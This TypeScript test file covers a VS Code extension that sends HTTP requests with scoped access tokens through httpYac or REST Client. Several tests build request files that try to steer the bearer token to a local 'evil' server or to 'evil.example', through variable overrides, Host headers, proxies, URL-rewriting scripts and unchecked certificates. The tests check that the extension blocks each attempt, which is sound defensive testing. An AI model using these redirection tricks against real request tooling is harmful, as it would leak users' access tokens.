import assert from 'node:assert/strict';
import fs from 'node:fs';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import os from 'node:os';
import nodePath from 'node:path';
import * as vscode from 'vscode';
import { type Sandbox, startSandbox } from '../../src/sandbox/index';
import { useAnswers } from '../support/answers';
import {
  closeEditors,
  configure,
  openFile,
  profileFor,
  putCursors,
  removeProfile,
  run,
  sharedToken,
  type TokenResult,
  useProfile,
  useSandbox,
} from '../support/extensionHost';
import { installStandIn } from '../support/standIns';
import { until } from '../support/until';

const header = 'Authorization: Bearer {{$processEnv HOSTED_LOGIN_TOKEN}}';

describe('Send with Fresh Token', () => {
  const sandbox = useSandbox();
  useProfile(sandbox, 'sending');
  const send = () => run('send');

  // Only sending renews tokens here.
  before(() => configure('renew', 'never'));
  after(() => configure('renew', undefined));

  afterEach(async () => {
    await run('forgetToken', { profile: 'sending' });
    await closeEditors();
  });

  const config = (path: string) => `${sandbox().origin}/${sandbox().customerId}/config/${path}`;
  const get = (path: string) => `GET ${config(path)}\n${header}\n`;
  const two = () => `${get('tokenPolicies')}\n### The other one\n\n${get('clients')}Accept: */*\n`;

  /** Waits for one cursor: the window repeats each selection to the extension host, an earlier one too, a moment later. */
  const cursorAt = (editor: vscode.TextEditor, line: number) =>
    until(
      `one cursor on line ${line}`,
      () => (editor.selection.isEmpty && editor.selection.active.line === line) || undefined,
    );

  /** The requests to the configuration that arrived, the newest last: path below it, status, and the token. */
  const arrived = () =>
    sandbox().received.flatMap(({ path, status, headers }) => {
      const [, below] = /\/config\/(.*)$/.exec(path) ?? [];
      return below === undefined ? [] : [{ below, status, authorization: headers['authorization'] ?? '' }];
    });

  /** Each text gets its own file: an open document may not have what was just written to the disk. */
  let files = 0;
  const open = (text: string) => openFile(`send-${++files}.http`, text);

  /** Sends with the cursor there. @returns what arrived meanwhile, as `status path` */
  async function sendAt(text: string, line = 0, command: () => Thenable<unknown> = send): Promise<string[]> {
    const before = arrived().length;
    putCursors(await open(text), line);
    await command();
    return arrived()
      .slice(before)
      .map(({ status, below }) => `${status} ${below}`);
  }

  /** The next token has this lifetime, in seconds. The sandbox does not know it, so requests with it are refused. */
  const nextToken = (seconds: number, scope = '.:config/**') => {
    sandbox().fail({
      path: '/login/token',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify({
        access_token: 'unknown-token',
        expires_in: seconds,
        token_type: 'Bearer',
        scope,
      }),
    });
  };

  const lenses = (editor: vscode.TextEditor) =>
    vscode.commands.executeCommand<vscode.CodeLens[]>(
      'vscode.executeCodeLensProvider',
      editor.document.uri,
      20,
    );

  /** The titles of our lenses in a file of many kinds of requests, with their lines. */
  async function lensesIn(name: string): Promise<(string | number | undefined)[][]> {
    const editor = await openFile(
      name,
      [
        `@token = {{$processEnv HOSTED_LOGIN_TOKEN}}`,
        get('clients'),
        `###\nGET {{origin}}/{{customerId}}/config/clients\n${header}\n`,
        `###\nGET ${config('clients')}\n`,
        `###\nGET ${config('clients')}\nAuthorization: Bearer of-my-own\n`,
        `###\nGET https://example.com/config/clients\n${header}\n`,
        `###\nPOST ${sandbox().origin}/${sandbox().customerId}/login/token\n${header}\n`,
        `###\nGET {{Catalog.API_HostAddress}}/openapi/v1.json\n`,
        `###\nGET ${config('tokenPolicies')}\nAuthorization: Bearer {{token}}\n`,
      ].join('\n'),
    );
    const found = await until('the lenses', async () => {
      const ours = (await lenses(editor)).filter(({ command }) => command?.title.includes('Send'));
      return ours.length > 0 ? ours : undefined;
    });
    return found.map(({ range, command }) => [range.start.line, command?.title]);
  }

  describe('without a client', () => {
    it('says which to install', async () => {
      await assert.rejects(sendAt(get('clients')), /Neither REST Client nor httpYac .* Install one of them/);
      assert.equal(sharedToken(), undefined, 'and requests nothing');
    });

    it('has one lens that shows them, above the first request', async () => {
      assert.deepEqual(await lensesIn('lens.http'), [[1, 'Install REST Client or httpYac to Send']]);
    });

    it('has none when the requests are written for another client', async () => {
      await configure('authorizationHeader.client', 'kulala');
      try {
        const { document } = await openFile('kulala.http', get('clients'));
        const editor = await vscode.window.showTextDocument(document);
        assert.deepEqual(await lenses(editor), []);
      } finally {
        await configure('authorizationHeader.client', undefined);
      }
    });
  });

  describe('with httpYac', () => {
    interface Exported {
      readonly logged: readonly string[];
      readonly httpyac: { readonly store: { readonly pluginStore: Record<string, unknown> } };
      readonly documentStore: {
        activeEnvironment: string[] | undefined;
        getHttpFile: (document: vscode.TextDocument) => Promise<unknown>;
      };
      readonly config: { environments: Record<string, Record<string, string>> };
    }
    let exported: Exported;

    before(async () => {
      // A request file is open, so that the hooks are installed as soon as the extension is.
      await openFile('open.http', get('clients'));
      const extension = await installStandIn('httpYac');
      await until('httpYac is hooked', () => {
        if (!extension.isActive) return undefined;
        return 'hosted-login' in (extension.exports as Exported).httpyac.store.pluginStore;
      });
      exported = extension.exports as Exported;
    });

    const sendWithHttpYac = () => vscode.commands.executeCommand('httpyac.send');

    it('is offered by one lens above each request of the profile, with and without the header', async () => {
      const title = 'Send with Fresh Token';
      await run('requestToken', { scope: '.:config/**' });
      assert.deepEqual(
        await lensesIn('lenses.http'),
        [1, 5, 9, 27].map(line => [line, title]),
      );
    });

    it('has a lens beside it that says what a request needs, while no live token allows that', async () => {
      const editor = await open(`${two()}###\nPOST ${config('clients')}\n${header}\n`);
      const titles = async () => {
        const found = await until('the lenses', async () => {
          const all = await lenses(editor);
          return all.length > 0 ? all : undefined;
        });
        return found.flatMap(({ range, command }) =>
          command?.title.startsWith('Needs') ? [`${range.start.line} ${command.title}`] : [],
        );
      };
      assert.deepEqual(await titles(), [
        '0 Needs .:config/tokenPolicies · Request',
        '5 Needs .:config/clients · Request',
        '9 Needs *:config/clients** · Request',
      ]);
      await run('requestToken', { scope: '.:config/**' });
      assert.deepEqual(await titles(), ['9 Needs *:config/clients** · Request']);
      const [lens] = (await lenses(editor)).filter(({ command }) => command?.title.startsWith('Needs'));
      const { command: id = '', arguments: args = [] } = lens?.command ?? {};
      await vscode.commands.executeCommand(id, ...(args as unknown[]));
      assert.deepEqual(await titles(), []);
    });

    it('inserts the header if the request of the lens has none, without a question', async () => {
      await run('requestToken', { scope: '.:config/**' });
      const editor = await open(`GET ${config('clients')}\nAccept: */*\n`);
      const lens = await until('the lens', async () => (await lenses(editor))[0]);
      assert.equal(lens.command?.title, 'Send with Fresh Token');
      const before = arrived().length;
      const { command: id, arguments: args = [] } = lens.command ?? {};
      await vscode.commands.executeCommand(id, ...(args as unknown[]));
      assert.deepEqual(
        arrived()
          .slice(before)
          .map(({ status, below }) => `${status} ${below}`),
        ['200 clients'],
      );
      assert.equal(editor.document.getText(), `GET ${config('clients')}\n${header}\nAccept: */*\n`);
      const [after] = await lenses(editor);
      assert.equal(after?.command?.title, lens.command.title);
    });

    it('requests the narrowest token, and hands over with the cursor in place', async () => {
      assert.deepEqual(await sendAt(two(), 6), ['200 clients']);
      const { requestedScope } = await run<TokenResult>('renewToken');
      assert.equal(requestedScope, '.:config/clients');
    });

    it('sends the request below if the cursor is between two, and clears the selection', async () => {
      const before = arrived().length;
      const editor = await open(two());
      editor.selection = new vscode.Selection(0, 3, 3, 4);
      await send();
      assert.deepEqual(arrived()[before]?.below, 'clients');
      await cursorAt(editor, 5);
    });

    it('sends nothing if another editor is active by then', async () => {
      await run('requestToken', { scope: '.:config/**' });
      const other = await open(get('tokenPolicies'));
      putCursors(await open(get('clients')), 0);
      const { documentStore } = exported;
      const { getHttpFile } = documentStore;
      let reads = 0;
      // The file is read once more in the moment before it is handed over.
      documentStore.getHttpFile = async document => {
        if (++reads === 2) await vscode.window.showTextDocument(other.document);
        return getHttpFile(document);
      };
      const before = arrived().length;
      try {
        await assert.rejects(send(), /cursor is no longer in the request.*Nothing was sent/s);
      } finally {
        documentStore.getHttpFile = getHttpFile;
      }
      assert.equal(reads, 2);
      assert.equal(arrived().length, before);
    });

    describe('from an outdated lens', () => {
      /** Opens a text, and sends from the lens on a line as it was before an edit. @returns what arrived */
      async function sendStale(text: string, line: number, edit: (builder: vscode.TextEditorEdit) => void) {
        await run('requestToken', { scope: '.:config/**' });
        const editor = await open(text);
        const lens = await until('the lens', async () =>
          (await lenses(editor)).find(
            ({ command, range }) => command?.title === 'Send with Fresh Token' && range.start.line === line,
          ),
        );
        await editor.edit(edit);
        const before = arrived().length;
        const { command: id = '', arguments: args = [] } = lens.command ?? {};
        await vscode.commands.executeCommand(id, ...(args as unknown[]));
        return arrived()
          .slice(before)
          .map(({ below }) => below);
      }
      const top = new vscode.Position(0, 0);

      it('finds its request after it has moved', async () => {
        const moved = await sendStale(two(), 0, builder => {
          builder.insert(top, `${get('loginPolicies')}\n###\n`);
        });
        assert.deepEqual(moved, ['tokenPolicies']);
      });

      it('sends nothing when its request is gone', async () => {
        const gone = await sendStale(two(), 0, builder => {
          builder.replace(new vscode.Range(0, 0, 1, 0), `GET ${config('loginPolicies')}\n`);
        });
        assert.deepEqual(gone, []);
      });

      it('sends nothing when it cannot tell its request from another', async () => {
        const twice = `${get('clients')}\n###\n${get('clients')}`;
        const found = await sendStale(twice, 0, builder => {
          builder.insert(top, '# A comment\n');
        });
        assert.deepEqual(found, []);
      });
    });

    it('keeps a token that allows it', async () => {
      await run('requestToken', { scope: '.:config/**' });
      const token = sharedToken();
      assert.deepEqual(await sendAt(get('clients')), ['200 clients']);
      assert.equal(arrived().at(-1)?.authorization, `Bearer ${token ?? '?'}`);
    });

    it('replaces a token that does not allow it', async () => {
      await run('requestToken', { scope: '.:config/clients' });
      assert.deepEqual(await sendAt(get('tokenPolicies')), ['200 tokenPolicies']);
      await run('requestToken', { scope: '.:config/clients' });
      assert.deepEqual(
        await sendAt(`DELETE ${config(`clients/nobody`)}\n${header}\n`),
        ['404 clients/nobody'],
        'allowed, but there is no such client',
      );
    });

    it('takes another live token that allows it, and makes it the active one', async () => {
      await run('requestToken', { scope: '.:config/**' });
      const wide = sharedToken();
      await run('requestToken', { scope: '.:config/clients' });
      const { length } = sandbox().issued;
      assert.deepEqual(await sendAt(get('tokenPolicies')), ['200 tokenPolicies']);
      assert.equal(sandbox().issued.length, length, 'none was requested');
      assert.equal(sharedToken(), wide);
    });

    it('renews an expired token, with its own scope', async () => {
      nextToken(1);
      await run('requestToken', { scope: '.:config/**' });
      await until('it has ended', () => sharedToken() === undefined);
      assert.deepEqual(await sendAt(get('clients')), ['200 clients']);
      assert.equal((await run<TokenResult>('renewToken')).requestedScope, '.:config/**');
    });

    it('sends nothing when the service grants less than the request needs', async () => {
      nextToken(3600, '');
      const before = arrived().length;
      await assert.rejects(sendAt(get('clients')), /needs \.:config\/clients.*not sent.*allowedScopes/s);
      assert.equal(arrived().length, before);
    });

    it('sends a request that is not to the configuration with any live token', async () => {
      const text = `GET ${sandbox().origin}/${sandbox().customerId}/elsewhere\n${header}\n`;
      await assert.rejects(sendAt(text), /no live access token.*Request/);
      nextToken(1, '.:config/clients');
      await run('requestToken', { scope: '.:config/clients' });
      await until('it has ended', () => sharedToken() === undefined);
      await sendAt(text);
      const last = sandbox().received.at(-1);
      assert.match(last?.path ?? '', /elsewhere/);
      assert.equal(last?.headers['authorization'], `Bearer ${sharedToken() ?? '?'}`);
    });

    it('rejects a call by code without the header, and leaves another scheme alone', async () => {
      const bare = `GET ${config('clients')}\n`;
      await assert.rejects(sendAt(bare), /no Authorization header.*Insert Authorization Header/);
      await assert.rejects(
        sendAt(`${bare}Authorization: Basic abc\n`),
        /on line 2 does not use HOSTED_LOGIN_TOKEN/,
      );
      await assert.rejects(sendAt('no request\n'), /no request at the cursor/);
    });

    it('sends nothing when nothing is shared, and says which setting that is', async () => {
      await run('requestToken', { scope: '.:config/**' });
      await configure('share.extensions', false);
      try {
        await assert.rejects(sendAt(get('clients')), /not shared.*hostedLogin\.share\.extensions/);
        assert.deepEqual(await sendAt(get('clients'), 0, sendWithHttpYac), ['401 clients']);
        assert.ok(
          !arrived()
            .at(-1)
            ?.authorization.includes(sandbox().issued.at(-1) ?? '?'),
        );
      } finally {
        await configure('share.extensions', undefined);
      }
    });

    it('says what to do if httpYac fails, without the token', async () => {
      await run('requestToken', { scope: '.:config/**' });
      const token = sharedToken() ?? assert.fail('no token');
      const { documentStore } = exported;
      const { getHttpFile } = documentStore;
      let reads = 0;
      // We read the file twice, then httpYac does.
      documentStore.getHttpFile = async document => {
        if (++reads === 3) throw new Error(`no answer to ${token}`);
        return getHttpFile(document);
      };
      putCursors(await open(get('clients')), 0);
      const before = arrived().length;
      try {
        await assert.rejects(
          send(),
          /^Error: httpYac could not send the request: no answer to ••• Check its output\. .*environment/,
        );
      } finally {
        documentStore.getHttpFile = getHttpFile;
      }
      assert.deepEqual([reads, arrived().length], [3, before]);
    });

    describe('whose file changes while httpYac reads it', () => {
      const first = new vscode.Range(0, 0, 1, 0);
      const cases: readonly (readonly [
        what: string,
        text: () => string,
        change: vscode.Range,
        to: string,
      ])[] = [
        [
          'lines above',
          () =>
            `#\n### Delete\nDELETE ${config('clients/x')}\n${header}\n\n### Show\nGET ${config('clients')}\n${header}\n`,
          first,
          '# a\n# b\n# c\n# d\n',
        ],
        [
          'a variable',
          () => `@id = x\n### Delete\nDELETE ${config('clients/{{id}}')}\n${header}\n`,
          first,
          '@id = y\n',
        ],
        [
          'its body',
          () => `# a\nPUT ${config('clients/x')}\n${header}\n\n{"name":"x"}\n`,
          new vscode.Range(4, 9, 4, 11),
          '',
        ],
        [
          'one of several alike',
          () =>
            ['x', 'y', 'z']
              .map(name => `###\nPOST ${config('clients')}\n${header}\n\n{"name":"${name}"}\n`)
              .join(''),
          new vscode.Range(0, 0, 5, 0),
          '',
        ],
      ];
      for (const [what, text, change, to] of cases) {
        it(`is not sent: ${what}`, async () => {
          await run('requestToken', { scope: '*:config/**' });
          const { documentStore } = exported;
          const { getHttpFile } = documentStore;
          const editor = await open(text());
          const lines = editor.document.getText().split('\n');
          const requests = lines.flatMap((line, index) => (/^[A-Z]+ http/.test(line) ? [index] : []));
          putCursors(editor, requests[1] ?? requests[0] ?? 0);
          documentStore.getHttpFile = async document => {
            documentStore.getHttpFile = getHttpFile;
            await editor.edit(edit => {
              edit.replace(change, to);
            });
            return getHttpFile(document);
          };
          const before = arrived().length;
          try {
            await assert.rejects(send(), /The file has changed in the meantime\. Nothing was sent/);
          } finally {
            documentStore.getHttpFile = getHttpFile;
          }
          assert.equal(arrived().length, before);
        });
      }
    });

    describe('in a file for another client', () => {
      const { asked } = useAnswers();
      before(() => configure('authorizationHeader.client', 'jetBrains'));
      after(() => configure('authorizationHeader.client', undefined));

      it('inserts the reference of the client that sends', async () => {
        await run('requestToken', { scope: '.:config/**' });
        const editor = await open(`GET ${config('clients')}\n`);
        putCursors(editor, 0);
        const earlier = arrived().length;
        await vscode.commands.executeCommand('hostedLogin.send');
        assert.deepEqual([arrived().length - earlier, arrived().at(-1)?.status], [1, 200]);
        assert.equal(editor.document.getText(), get('clients'));
        assert.deepEqual(asked, []);
      });
    });

    it('refuses unknown arguments', async () => {
      await assert.rejects(run('send', { line: 1 }), /invalid: line/);
    });

    it('gives httpYac the live token although the variable holds another one', async () => {
      await run('requestToken', { scope: '.:config/**' });
      const token = sharedToken();
      process.env['HOSTED_LOGIN_TOKEN'] = 'stale';
      try {
        assert.deepEqual(await sendAt(get('clients'), 0, sendWithHttpYac), ['200 clients']);
        await assert.rejects(send(), /HOSTED_LOGIN_TOKEN does not hold the access token/);
      } finally {
        process.env['HOSTED_LOGIN_TOKEN'] = token;
      }
    });

    it('keeps every token out of what httpYac logged', () => {
      const log = exported.logged.join('\n');
      assert.match(log, /Bearer •••/);
      for (const token of ['unknown-token', ...sandbox().issued]) assert.ok(!log.includes(token));
    });

    describe('if it may not go to the profile', () => {
      /** What arrived at a server that is nobody's. */
      const stolen: string[] = [];
      const evil = createServer((request, response) => {
        stolen.push(`${request.url ?? ''} ${JSON.stringify(request.rawHeaders)}`);
        request.resume().on('end', () => response.end());
      });
      let origin = '';

      before(async () => {
        await new Promise<void>(resolve => evil.listen(0, '127.0.0.1', resolve));
        origin = `http://127.0.0.1:${(evil.address() as AddressInfo).port}`;
        await run('requestToken', { scope: '.:config/**' });
      });

      beforeEach(async () => {
        stolen.length = 0;
        await run('requestToken', { scope: '.:config/**' });
      });

      after(async () => {
        evil.closeAllConnections();
        await new Promise(resolve => evil.close(resolve));
      });

      const path = () => `/${sandbox().customerId}/config/clients`;
      const rows: readonly (readonly [title: string, text: () => string, message: RegExp])[] = [
        [
          'a second value of its variable',
          () => `@host = ${sandbox().origin}\n@host = ${origin}\nGET {{host}}${path()}\n${header}\n`,
          /goes to http:\/\/127\.0\.0\.1:\d+, and none of your profiles has this host.*not sent/,
        ],
        [
          'no slashes',
          () => `GET ${origin.replace('//', '')}${path()}\n${header}\n`,
          /none of your profiles has this host.*not sent/,
        ],
        [
          'a Host header',
          () => `GET ${path()}\nHost: ${origin.slice('http://'.length)}\n${header}\n`,
          /none of your profiles has this host.*not sent/,
        ],
        [
          'a variable that only the client knows',
          () => `GET {{nowhere}}${path()}\n${header}\n`,
          /not certain.*only the REST client knows \{\{nowhere\}\}.*not sent.*Write the host in the URL/,
        ],
        [
          'a block of script',
          () => `{{\nexports.h = '${origin}';\n}}\nGET {{h}}${path()}\n${header}\n`,
          /not certain.*script.*not sent/,
        ],
        [
          'a script that changes the URL',
          () => `{{@request\nrequest.url = '${origin}/x';\n}}\n${get('clients')}`,
          /not certain.*script.*not sent/,
        ],
        ['an expression', () => `GET {{['${origin}'][0]}}${path()}\n${header}\n`, /not certain.*not sent/],
        [
          'a proxy that reads it',
          () => `# @proxy ${origin}\n# @noRejectUnauthorized\n${get('clients')}`,
          /none of your profiles has this host.*not sent/,
        ],
        [
          'a certificate that nobody checks',
          () => `# @noRejectUnauthorized\n${get('clients')}`,
          /not certain.*certificate.*not sent/,
        ],
      ];
      for (const [title, text, message] of rows) {
        it(`rejects a call by code: ${title}`, async () => {
          putCursors(await open(text()), text().split('\n').length - 2);
          await assert.rejects(send(), message);
          assert.deepEqual(stolen, []);
        });

        if (!title.includes('certificate')) {
          it(`httpYac’s own command gets no token: ${title}`, async () => {
            putCursors(await open(text()), text().split('\n').length - 2);
            await sendWithHttpYac();
            assert.ok(!stolen.join().includes(sharedToken() ?? '?'), stolen.join());
          });
        }
      }

      const others: readonly (readonly [title: string, text: () => string])[] = [
        ['named', () => `# @name del\nDELETE ${config('clients/x')}\n${header}\n\n###\n# @forceRef del\n`],
        [
          'named in a block of its own',
          () => `# @ref del\n\n###\n# @name del\nDELETE ${config('clients/x')}\n${header}\n\n###\n`,
        ],
        [
          'with a token that only httpYac knows',
          () => `# @name del\nDELETE ${config('clients/x')}\nAuthorization: {{auth}}\n\n###\n# @ref del\n`,
        ],
        [
          'with a path that looks like that of the login',
          () =>
            `# @name del\nDELETE ${config('clients/x').replace('config', 'login/../config')}\n${header}\n\n###\n# @ref del\n`,
        ],
        [
          'with a script that may change its method',
          () =>
            `# @name del\n{{@request\nrequest.method = 'DELETE';\n}}\nGET ${config('clients/x')}\n${header}\n\n###\n# @ref del\n`,
        ],
        ['that only httpYac knows', () => '# @ref {{x}}\n'],
      ];
      for (const [title, text] of others) {
        it(`sends no other request first that may change something, unless the user wants it: ${title}`, async () => {
          const written = `${text()}${get('clients')}`;
          putCursors(await open(written), written.split('\n').length - 2);
          const before = arrived().length;
          await assert.rejects(
            send(),
            /refers to others, which httpYac sends first: (?:(?:DELETE|GET) http\S*\/clients\/x|“\{\{x\}\}”)\. .*you are asked/,
          );
          assert.equal(arrived().length, before);
        });
      }

      it('first sends other requests that only read', async () => {
        // What a script does with the answer is the usual reason for such a reference.
        const script = '{{\nexports.status = response.statusCode;\n}}\n';
        const reads = `# @name list\n${get('tokenPolicies')}\n${script}\n###\n# @ref list\n${get('clients')}`;
        assert.deepEqual(await sendAt(reads, reads.split('\n').length - 2), [
          '200 tokenPolicies',
          '200 clients',
        ]);
      });

      it('reads the environment that is selected in httpYac, and its files', async () => {
        exported.config.environments = { own: { h: sandbox().origin }, other: { h: origin } };
        try {
          exported.documentStore.activeEnvironment = ['own'];
          assert.deepEqual(await sendAt(`GET {{h}}${path()}\n${header}\n`), ['200 clients']);
          exported.documentStore.activeEnvironment = ['other'];
          await assert.rejects(
            sendAt(`GET {{h}}${path()}\n${header}\n`),
            /none of your profiles has this host.*not sent/,
          );
          await openFile('.env', `DOTHOST=${origin}\n`);
          await assert.rejects(
            sendAt(`GET {{DOTHOST}}${path()}\n${header}\n`),
            /none of your profiles has this host.*not sent/,
          );
        } finally {
          exported.config.environments = {};
          exported.documentStore.activeEnvironment = undefined;
          await openFile('.env', '');
        }
        assert.deepEqual(stolen, []);
      });

      it('accepts a Host header of the profile', async () => {
        const host = sandbox().origin.slice('http://'.length);
        assert.deepEqual(await sendAt(`GET ${path()}\nHost: ${host}\n${header}\n`), ['200 clients']);
      });

      it('gives httpYac’s own command any live token that allows the request', async () => {
        await run('requestToken', { scope: '.:config/tokenPolicies' });
        assert.deepEqual(await sendAt(get('clients'), 0, sendWithHttpYac), ['200 clients']);
        assert.notEqual(arrived().at(-1)?.authorization, `Bearer ${sharedToken() ?? '?'}`);
      });
    });

    describe('to another customer', () => {
      let other: Sandbox;

      before(async () => {
        other = await startSandbox();
      });

      after(async () => {
        await removeProfile('other');
        await other.stop();
      });

      const toOther = () => `GET ${other.origin}/${other.customerId}/config/clients\n${header}\n`;

      it('sends nothing, and names the profile that it belongs to', async () => {
        await run('requestToken', { scope: '.:config/**' });
        await assert.rejects(
          sendAt(toOther()),
          /goes to http:\/\/127\.0\.0\.1:\d+, and none of your profiles has this host.*not sent.*Add a profile/,
        );
        await run('addProfile', profileFor(other, 'other'));
        await run('switchProfile', { name: 'sending' });
        await assert.rejects(sendAt(toOther()), /customer of “other”.*active profile is “sending”.*Switch/);
        assert.deepEqual(
          other.received.filter(({ path }) => path.includes('/config/')),
          [],
        );
        await sendAt(toOther(), 0, sendWithHttpYac);
        const { authorization = '' } = other.received.at(-1)?.headers ?? {};
        assert.ok(!sandbox().issued.some(token => authorization.includes(token)), 'httpYac neither');
        await run('requestToken', { profile: 'other', scope: '.:config/**' });
        await run('switchProfile', { name: 'sending' });
        await sendAt(toOther(), 0, sendWithHttpYac);
        assert.equal(other.received.at(-1)?.status, 200, 'but with a token of its own profile');
        await run('switchProfile', { name: 'other' });
        await sendAt(toOther());
        assert.equal(other.received.at(-1)?.status, 200);
        await run('switchProfile', { name: 'sending' });
      });
    });
  });

  describe('with REST Client too', () => {
    before(async () => {
      await installStandIn('restClient');
      await closeEditors();
    });

    afterEach(() => configure('authorizationHeader.client', undefined));

    /** Whether httpYac sent the last request: it says who it is. */
    const isByHttpYac = () => sandbox().received.at(-1)?.headers['user-agent'] === 'httpyac';

    it('leaves it to httpYac, unless the setting names REST Client', async () => {
      assert.deepEqual(await sendAt(two(), 6), ['200 clients']);
      assert.equal(isByHttpYac(), true);
      await configure('authorizationHeader.client', 'restClient');
      assert.deepEqual(await sendAt(two(), 6), ['200 clients']);
      assert.equal(isByHttpYac(), false);
    });

    describe('with an environment', () => {
      let home: string;
      const earlier = process.env['VSC_REST_CLIENT_HOME'];
      const variables = (value: object | undefined) =>
        vscode.workspace
          .getConfiguration('rest-client')
          .update('environmentVariables', value, vscode.ConfigurationTarget.Global);

      before(() => {
        home = fs.mkdtempSync(nodePath.join(os.tmpdir(), 'rest-client-home-'));
        process.env['VSC_REST_CLIENT_HOME'] = home;
      });

      after(async () => {
        if (earlier === undefined) Reflect.deleteProperty(process.env, 'VSC_REST_CLIENT_HOME');
        else process.env['VSC_REST_CLIENT_HOME'] = earlier;
        fs.rmSync(home, { recursive: true });
        await variables(undefined);
      });

      it('is sent by the client that knows where the request goes', async () => {
        const url = `{{h}}/${sandbox().customerId}/config/clients`;
        const text = `GET ${url}\n${header}\n`;
        await variables({ own: { h: sandbox().origin }, other: { h: 'https://evil.example' } });
        const select = (name: string) => {
          fs.writeFileSync(nodePath.join(home, 'environment.json'), JSON.stringify({ name, label: name }));
        };
        select('other');
        await assert.rejects(
          sendAt(text),
          /goes to https:\/\/evil\.example, and none of your profiles has this host/,
        );
        select('own');
        // The stand-in replaces no variables: the test only checks that it was called and failed.
        await assert.rejects(sendAt(text), /REST Client could not send the request.*environment/s);
        select('$shared');
        await assert.rejects(sendAt(text), /not certain.*only the REST client knows \{\{h\}\}/);
        const none = 'c0cfe680-4fcd-4b71-a4ba-8cfaee57680a';
        await variables({ $shared: { h: 'https://evil.example' }, [none]: { h: sandbox().origin } });
        select(none);
        await assert.rejects(sendAt(text), /goes to https:\/\/evil\.example/);
      });
    });

    it('shares the new token before REST Client reads it', async () => {
      await configure('authorizationHeader.client', 'restClient');
      await run('requestToken', { scope: '.:config/clients' });
      const narrow = sharedToken();
      assert.deepEqual(await sendAt(two(), 0), ['200 tokenPolicies']);
      assert.notEqual(arrived().at(-1)?.authorization, `Bearer ${narrow ?? '?'}`);
    });

    it('sends nothing when its profile leads elsewhere by the time that a scope is chosen', async () => {
      await configure('authorizationHeader.client', 'restClient');
      const { window }: { window: { createQuickPick: unknown } } = vscode;
      const original = vscode.window.createQuickPick;
      const other = await startSandbox();
      try {
        const shown = new Promise<void>(resolve => {
          window.createQuickPick = () => {
            const pick = original();
            const show = pick.show.bind(pick);
            pick.show = () => {
              show();
              resolve();
            };
            return pick;
          };
        });
        const before = arrived().length;
        putCursors(await open(get('clients')), 0);
        const sent = vscode.commands.executeCommand('hostedLogin.send');
        await shown;
        await run('editProfile', { ...profileFor(other, 'sending'), force: true });
        await until('a token of the other service', async () => {
          await vscode.commands.executeCommand('workbench.action.acceptSelectedQuickOpenItem');
          return other.issued.length > 0;
        });
        await sent;
        assert.deepEqual(arrived().slice(before), []);
      } finally {
        window.createQuickPick = original;
        await run('editProfile', { ...profileFor(sandbox(), 'sending'), force: true });
        await other.stop();
      }
    });

    it('puts the cursor on the request line in Markdown, when clients disagree on the end of a request', async () => {
      await configure('authorizationHeader.client', 'restClient');
      await run('requestToken', { scope: '.:config/**' });
      const text = `\`\`\`http\n###\n${get('clients')}###\n\`\`\`\n`;
      const editor = await openFile(`send-${++files}.md`, text);
      for (const line of [3, 2, 1]) {
        putCursors(editor, line);
        const before = arrived().length;
        await send();
        assert.deepEqual(arrived()[before]?.below, 'clients', `from line ${line}`);
        await cursorAt(editor, 2);
      }
    });

    it('reads from REST Client’s settings whether they name a host for a path', async () => {
      await configure('authorizationHeader.client', 'restClient');
      const headers = (value: object | undefined) =>
        vscode.workspace
          .getConfiguration('rest-client')
          .update('defaultHeaders', value, vscode.ConfigurationTarget.Workspace);
      const host = sandbox().origin.slice('http://'.length);
      const text = `GET /${sandbox().customerId}/config/clients\nHost: ${host}\n${header}\n`;
      try {
        await headers({ host: 'evil.example:443' });
        await assert.rejects(sendAt(text), /not certain.*names no host/);
      } finally {
        await headers(undefined);
      }
    });

    it('says that httpYac sends no cURL commands', async () => {
      await configure('authorizationHeader.client', 'httpYac');
      await assert.rejects(
        sendAt(`curl ${config('clients')} -H "${header}"\n`),
        /httpYac sends no cURL commands\. .*REST Client/,
      );
    });

    describe('by a person', () => {
      const { asked, answerBy } = useAnswers();

      it('is sent after the token of another request was replaced, which made its target uncertain', async () => {
        await configure('authorizationHeader.client', 'restClient');
        await run('requestToken', { scope: '.:config/**' });
        answerBy(({ choices }) => choices.find(choice => /^(?:Send|Replace and Send)$/.test(choice)));
        const login = `# @name login\nPOST ${sandbox().origin}/${sandbox().customerId}/login/token\n`;
        const own = `GET ${config('clients')}\nAuthorization: Bearer {{login.response.body.access_token}}\n`;
        const sent = await sendAt(`${login}\n###\n${own}`, 4, () =>
          vscode.commands.executeCommand('hostedLogin.send'),
        );
        assert.deepEqual(sent, ['200 clients'], JSON.stringify(asked));
        assert.deepEqual(
          asked.map(({ choices }) => choices.join()),
          ['Send', 'Replace and Send'],
        );
      });
    });

    it('sets cursor and selection as REST Client needs them', async () => {
      await configure('authorizationHeader.client', 'restClient');
      assert.deepEqual(await sendAt(two(), 3), ['200 clients']);
      const editor = await open(two());
      editor.selection = new vscode.Selection(5, 0, 5, 3);
      const before = arrived().length;
      await send();
      assert.equal(arrived()[before]?.status, 200);
    });
  });
});
